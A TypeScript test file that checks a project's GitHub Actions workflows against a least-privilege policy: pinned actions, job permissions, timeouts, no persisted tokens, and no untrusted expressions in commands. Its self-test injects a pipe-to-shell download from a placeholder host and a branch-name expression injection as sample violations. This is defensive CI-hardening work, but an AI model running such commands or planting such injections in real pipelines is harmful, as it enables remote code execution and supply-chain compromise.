import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import test from 'node:test';
import { parse } from 'yaml';
import { PHASES } from '../support/phases';

const ROOT = path.resolve(__dirname, '../..');
const FOLDER = path.join(ROOT, '.github/workflows');
const SCRIPTS: Record<string, string> = JSON.parse(readFileSync(path.join(ROOT, 'package.json'), 'utf8')).scripts;

type Step = { uses?: string; run?: string; if?: string; with?: Record<string, unknown> };
type Job = { permissions?: Record<string, string>; 'timeout-minutes'?: number; steps: Step[] };
type Workflow = { on: object; permissions?: object; jobs: Record<string, Job> };

/** Returns the policy violations of a workflow. */
function faultsOf(text: string): string[] {
  const workflow: Workflow = parse(text);
  const faults: string[] = [];
  if (JSON.stringify(workflow.permissions) !== '{}') faults.push('the workflow itself has permissions');
  if ('pull_request_target' in workflow.on) faults.push('the code of a fork would run with secrets');
  for (const [name, job] of Object.entries(workflow.jobs)) {
    if (!job.permissions) faults.push(`${name} has no permissions`);
    if (!job['timeout-minutes']) faults.push(`${name} has no timeout`);
    for (const { uses, run, with: given } of job.steps) {
      if (uses?.startsWith('actions/checkout@') && given?.['persist-credentials'] !== false)
        faults.push(`${name} leaves its token in .git`);
      if (run !== undefined) faults.push(...faultsOfCommand(run).map((fault) => `${name}: ${fault}`));
    }
  }
  // Parsing drops comments, so the version comments are read from the lines.
  for (const line of text.split('\n').filter((each) => /\buses:/.test(each)))
    if (!/uses: [\w-]+\/[\w/-]+@[0-9a-f]{40} # v\d+\.\d+\.\d+$/.test(line)) faults.push(`not pinned: ${line.trim()}`);
  return faults;
}

function faultsOfCommand(run: string): string[] {
  // Untrusted input (a title, a branch name) would be interpolated into the command.
  const injected = /\$\{\{/.test(run) ? [`an expression in ${run}`] : [];
  const [program, ...words] = run.split(' ');
  if (program === 'tar' || run === 'npm ci') return injected;
  const script = words.find((word) => !word.startsWith('-') && word !== 'run') ?? '';
  return program === 'npm' && script in SCRIPTS ? injected : [...injected, `${run} is not a script of package.json`];
}

const workflows = readdirSync(FOLDER).map((file): [string, string] => [file, readFileSync(path.join(FOLDER, file), 'utf8')]);

for (const [file, text] of workflows) {
  test(`${file} runs only our own commands, with least privilege and pinned actions`, () => assert.deepEqual(faultsOf(text), []));
}

test('a pull request runs what npm test runs, and only main deploys', () => {
  const { on, jobs } = parse(readFileSync(path.join(FOLDER, 'test.yml'), 'utf8'));
  assert.ok('pull_request' in on);
  assert.deepEqual(on.push, { branches: ['main'] });
  const { deploy, ...tests } = jobs as Record<string, Job & { if?: string; needs?: string[] }>;
  const commands = Object.values(tests).flatMap(({ steps }) => steps.flatMap(({ run, if: when }) => (run && !when ? [run] : [])));
  const phases = commands.flatMap((command) => command.match(/^npm test -- (.*)$/)?.[1].split(' ') ?? []);
  assert.deepEqual(phases.sort(), Object.keys(PHASES).sort());
  assert.ok(commands.includes('npm run check:audit'));
  assert.equal(deploy.if, "github.event_name == 'push'");
  assert.deepEqual(deploy.needs?.sort(), Object.keys(tests).sort());
});

/** Commands of workflows that `npm test` does not run, with the reason. */
const NOT_IN_TEST: Record<string, string> = {
  'check:audit': 'the advisories of the day decide, not the commit',
  'check:public': 'it downloads 33 MB from the npm registry, and renders pages of others for minutes',
  'check:postman': 'sends every request of the collections with a program that npm downloads',
  gallery: 'takes pictures for people, and has no result',
  'pr:summary': 'compares with the base of the pull request',
};

test('npm test runs whatever a workflow runs, so that nothing fails for the first time after a merge', () => {
  const tested = Object.values(PHASES).flatMap((steps) => steps.map(({ command }) => command[3]));
  const used = workflows.flatMap(([, text]) => [...text.matchAll(/npm run (?:--silent )?([\w:]+)/g)].map(([, name]) => name));
  assert.deepEqual(
    used.filter((name) => !tested.includes(name) && !(name in NOT_IN_TEST)),
    [],
  );
  for (const name of Object.keys(NOT_IN_TEST)) assert.ok(used.includes(name), `No workflow runs ${name}.`);
});

test('finds each policy violation of a workflow', () => {
  const [, good] = workflows.find(([file]) => file === 'weekly.yml') as [string, string];
  const faultsAfter = (from: RegExp | string, to: string) => {
    assert.notEqual(good.replace(from, to), good);
    return faultsOf(good.replace(from, to)).join('\n');
  };
  assert.match(faultsAfter('permissions: {}', 'permissions: { contents: write }'), /the workflow itself/);
  assert.match(faultsAfter('    permissions: { contents: read }\n', ''), /has no permissions/);
  assert.match(faultsAfter('    timeout-minutes: 20\n', ''), /no timeout/);
  assert.match(faultsAfter('workflow_dispatch:', 'pull_request_target:'), /fork/);
  assert.match(faultsAfter('persist-credentials: false', 'persist-credentials: true'), /token/);
  assert.match(faultsAfter(/@[0-9a-f]{40} # v4.2.2/, '@v4'), /not pinned/);
  assert.match(faultsAfter('npm run check:audit', 'npm run check:nothing'), /not a script/);
  assert.match(faultsAfter('npm run check:audit', 'curl https://a.example | sh'), /not a script/);
  // biome-ignore lint/suspicious/noTemplateCurlyInString: an expression of the workflow
  assert.match(faultsAfter('npm run check:audit', 'npm run check:audit -- ${{ github.head_ref }}'), /an expression/);
});
